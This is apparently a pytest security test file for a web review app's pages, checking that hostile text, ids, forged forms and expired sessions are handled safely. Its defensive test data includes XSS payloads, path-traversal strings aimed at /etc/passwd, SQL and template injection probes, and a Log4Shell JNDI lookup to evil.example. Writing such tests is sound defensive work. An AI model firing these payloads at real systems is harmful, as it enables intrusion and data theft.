"""Everything at once that a page must bear: hostile texts, ids, forms and sessions, on every route."""

import time
from urllib.parse import quote

import pytest
import sqlalchemy as sa

from backend.db.review_tables import listed_region
from backend.pages.context import MAX_FORM_BYTES
from backend.pages.sessions import LIFETIME_S
from backend.review.listing import RegionFilter, read_listed, refresh
from tests.backend.corrections.made import PROJECT
from tests.backend.pages.conftest import predict, read_forms
from tests.backend.pages.test_access import NEEDS, routes_of
from tests.backend.pages.test_pages import DECISIONS, LIST, rows
from tests.backend.pages.test_runs import make_run, read_token, run_store  # noqa: F401
from tests.backend.pages.test_security import SCRIPTS, read_elements

TEXTS = (
    *SCRIPTS,
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '" autofocus onfocus=alert(1) x="',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
)
HOSTILE_IDS = (
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fapp.py",
    "..%5c..%5capp.py",
    "%00",
    "%c0%ae%c0%ae",
    "x" * 3000,
    "'%20OR%201=1%20--",
    "%3Cscript%3E",
    "%7B%7B7*7%7D%7D",
    "0" * 32,
    "-1",
)
CHANGING = [path for path, needed in NEEDS.items() if needed]


def shape_of(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """Elements of a page with the names of their attributes, as a browser makes them."""
    return [(tag, tuple(attributes)) for tag, attributes in read_elements(html)]


def test_a_hostile_text_makes_the_same_elements_as_a_harmless_one(client, project, make_run):  # noqa: F811
    """Expressions, labels, file names, model versions, comments, reasons of suspicion, names and errors of runs."""
    for number, text in enumerate(TEXTS):
        predict(project, 400 + number, 0.9, "the box", version="harmless")
        predict(project, 600 + number, 0.9, text, label=text, image=text, version=f"hostile {TEXTS[1]}")
    refresh(project, PROJECT)
    with project.writing() as db:
        told = 'wrong words: it is what was proposed for "' + listed_region.c.expression + '"'
        reason = {"suspicion": 0.5, "suspicion_reason": told}
        db.execute(sa.update(listed_region).values(reason))
    versions = ("harmless", f"hostile {TEXTS[1]}")
    for version, texts in zip(versions, (["fine"] * len(TEXTS), TEXTS), strict=True):
        forms = read_forms(client.get(LIST, params={"model_version": version}).text)
        assert len(forms) == len(TEXTS)
        for form, text in zip(forms, texts, strict=True):
            said = {**form, "state": "rejected", "comment": text}
            assert client.post(DECISIONS, data=said, headers={"X-Fragment": "1"}).status_code == 200
    with project.reading() as db:
        pairs = zip(*(read_listed(db, PROJECT, RegionFilter(model_version=one), 99) for one in versions), strict=True)
        paths = [
            tuple(f"{LIST}/{one.id}?model_version={quote(name)}" for one, name in zip(pair, versions, strict=True))
            for pair in pairs
        ]
    paths.append(tuple(f"{LIST}?model_version={quote(one)}" for one in versions))
    quiet, loud = (
        make_run(name="fine", expressions=("fine",) * 9),
        make_run(error=TEXTS[1], expressions=TEXTS[:9], name=TEXTS[1]),
    )
    paths.append(tuple(f"/ui/projects/{PROJECT}/runs/{run.id}" for run in (quiet, loud)))
    for harmless, hostile in paths:
        assert shape_of(client.get(hostile).text) == shape_of(client.get(harmless).text), hostile
    picture = client.get(f"{hostile_picture(project, versions[1])}")
    assert (picture.status_code, picture.headers["content-type"]) == (200, "image/webp")


def hostile_picture(project, version: str) -> str:
    """Address of the picture of a region whose image has a hostile name."""
    with project.reading() as db:
        [region, *_] = read_listed(db, PROJECT, RegionFilter(model_version=version), 1)
    return f"{LIST}/{region.id}/picture?mask={region.mask_sha256}"


def test_an_id_is_a_name_and_no_path(client, make_run):  # noqa: F811
    token = {"token": read_token(client.get(f"/ui/projects/{PROJECT}/runs/{make_run().id}").text)}
    for method, path in routes_of(client):
        for id in HOSTILE_IDS if "{id}" in path else ():
            address = "/ui" + path.format(project=PROJECT, id=id, verb="pause")
            answer = client.request(method, address, params={"mask": id}, data=token if method == "post" else None)
            assert answer.status_code == 404, address
            assert "root:" not in answer.text


def test_a_region_and_a_run_of_another_project_are_not_there(client, project, make_run):  # noqa: F811
    [form, *_] = read_forms(client.get(LIST).text)
    runs = {PROJECT: make_run(), 8: make_run(project=8)}
    for method, path in routes_of(client):
        if "{id}" not in path:
            continue
        own = runs[PROJECT].id if "/runs/" in path else form["region"]
        for number, id in ((8, own), (PROJECT, runs[8].id)):
            address = "/ui" + path.format(project=number, id=id, verb="pause")
            data = {"token": form["token"]} if method == "post" else None
            assert client.request(method, address, params={"mask": form["mask"]}, data=data).status_code == 404, address
    for path in ("decisions", "bulk"):
        said = {**form, "state": "approved", "threshold": "0.5", "most": "99", "overlooked": "0", "number": "0"}
        assert client.post(f"/ui/projects/8/{path}", data=said).status_code == 404
    assert rows(project) == []


@pytest.fixture
def refused(client, project, make_run, run_store):  # noqa: F811
    """Sends a form to every route that changes something; nothing may change."""
    run = make_run()
    [good, *_] = read_forms(client.get(LIST).text)

    def send(status: int, change: dict[str, str] | None = None, headers: dict[str, str] | None = None) -> None:
        form = {**good, "state": "approved", **(change or {})}
        for path in CHANGING:
            address = "/ui" + path.format(project=PROJECT, id=run.id, verb="cancel")
            answer = client.post(address, data=form, headers=headers or {})
            assert answer.status_code == status, (address, answer.text)
        assert rows(project) == []
        assert run_store.get(run.id).state == "running"

    return send


def test_a_form_that_is_not_ours_changes_nothing(refused):
    refused(403, {"token": ""})
    refused(403, {"token": "0" * 64})
    refused(403, headers={"Origin": "https://evil.example"})
    refused(403, headers={"Sec-Fetch-Site": "cross-site"})
    refused(413, {"comment": "x" * MAX_FORM_BYTES})
    refused(400, {f"f{n}": "" for n in range(50)})
    refused(400, headers={"Content-Type": "text/plain"})
    refused(400, headers={"Content-Type": "multipart/form-data; boundary=x"})


def test_a_session_that_is_over_changes_nothing(refused, client, monkeypatch):
    now = time.time()
    monkeypatch.setattr(time, "time", lambda: now + LIFETIME_S + 1)
    refused(401)
    monkeypatch.undo()
    client.cookies.clear()
    refused(401)
